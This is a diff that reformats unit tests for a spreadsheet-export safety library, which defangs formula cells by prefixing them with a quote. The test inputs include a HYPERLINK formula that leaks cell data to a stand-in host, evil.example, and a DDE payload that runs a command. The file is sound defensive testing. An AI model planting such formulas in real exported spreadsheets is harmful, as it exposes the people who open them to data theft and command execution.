@@ -3,7 +3,10 @@ import { neutraliseFormula, safeRows } from "@/lib/export/spreadsheet-safety";
 
 describe("neutraliseFormula", () => {
   it.each([
-    ['=HYPERLINK("http://evil.example/?leak="&A1, "Click me")', `'=HYPERLINK("http://evil.example/?leak="&A1, "Click me")`],
+    [
+      '=HYPERLINK("http://evil.example/?leak="&A1, "Click me")',
+      `'=HYPERLINK("http://evil.example/?leak="&A1, "Click me")`,
+    ],
     ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
     ["+1", "'+1"],
     ["-2", "'-2"],
@@ -15,7 +18,17 @@ describe("neutraliseFormula", () => {
     expect(neutraliseFormula(value)).toBe(expected);
   });
 
-  it.each(["WS-ACME-01", "acme-laptop-7", "Contoso Ltd", "a=b", "1+1", "", " =1", "'=already quoted", "Müller & Söhne"])("leaves plain text %j untouched", (value) => {
+  it.each([
+    "WS-ACME-01",
+    "acme-laptop-7",
+    "Contoso Ltd",
+    "a=b",
+    "1+1",
+    "",
+    " =1",
+    "'=already quoted",
+    "Müller & Söhne",
+  ])("leaves plain text %j untouched", (value) => {
     expect(neutraliseFormula(value)).toBe(value);
   });
 
@@ -30,7 +43,14 @@ describe("neutraliseFormula", () => {
 describe("safeRows", () => {
   it("yields the header first, then every row, each cell neutralised", async () => {
     const rows = [];
-    for await (const row of safeRows(["Host", "=Count"], [["=evil", 3], ["fine", -1]])) rows.push(row);
+    for await (const row of safeRows(
+      ["Host", "=Count"],
+      [
+        ["=evil", 3],
+        ["fine", -1],
+      ],
+    ))
+      rows.push(row);
     expect(rows).toEqual([
       ["Host", "'=Count"],
       ["'=evil", 3],
